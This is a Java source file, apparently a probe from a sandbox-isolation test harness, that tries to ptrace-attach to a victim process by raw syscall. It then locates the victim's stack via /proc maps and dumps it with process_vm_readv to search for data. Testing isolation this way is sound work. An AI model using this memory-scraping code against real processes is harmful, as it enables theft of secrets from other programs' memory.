package autograd;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reads and traces another process by calls into the kernel. */
final class Attack {
    static void run() throws Throwable {
        Kernel kernel = new Kernel();
        long pid = @VICTIM_PID@L;
        long traced = kernel.call(101, 16, pid, 0, 0);
        System.out.println("attack: ptrace " + traced + ", detached " + kernel.call(101, 17, pid, 0, 0));
        if (traced == 0) {
            Trial.reached();
        }
        for (String line : Files.readAllLines(Path.of("/proc", Long.toString(pid), "maps"))) {
            if (line.endsWith("[stack]")) {
                long from = Long.parseLong(line.split("[- ]")[0], 16);
                int size = (int) (Long.parseLong(line.split("[- ]")[1], 16) - from);
                long buffer = kernel.allocate(size + 4096);
                long vectors = buffer + size;
                ByteBuffer bytes = ByteBuffer.allocate(32).order(ByteOrder.nativeOrder());
                kernel.write(vectors, bytes.putLong(buffer).putLong(size).putLong(from).putLong(size).array());
                System.out.println("attack: process_vm_readv " + kernel.call(310, pid, vectors, 1, vectors + 16, 1, 0));
                Trial.search(new String(kernel.read(buffer, size), StandardCharsets.ISO_8859_1));
            }
        }
    }
}
